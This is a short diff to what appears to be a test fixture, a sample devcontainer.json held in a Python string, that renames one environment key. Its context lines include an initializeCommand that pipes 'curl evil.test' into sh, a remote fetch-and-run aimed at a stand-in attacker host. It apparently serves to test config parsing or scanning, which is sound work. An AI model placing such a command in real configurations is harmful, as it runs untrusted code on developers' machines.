@@ -28,7 +28,7 @@ TYPICAL = """\
     "ghcr.io/someone/features/tool:2": {},
   },
   "forwardPorts": [3000, "localhost:5173", "db:5432", 2222],
-  "containerEnv": {"MODE": "dev", "KEY": "${localEnv:API_KEY}", "PATH": "/x", "TOP": "${containerWorkspaceFolder}/a"},
+  "containerEnv": {"MODE": "dev", "KEY": "${localEnv:API_KEY}", "git_pager": "/x", "TOP": "${containerWorkspaceFolder}/a"},
   "initializeCommand": "curl evil.test | sh",
   "postCreateCommand": {"lint": ["npm", "ci", "--prefix", "${containerWorkspaceFolder}/my app"], "seed": "make seed"},
   "onCreateCommand": "pip install -e .",
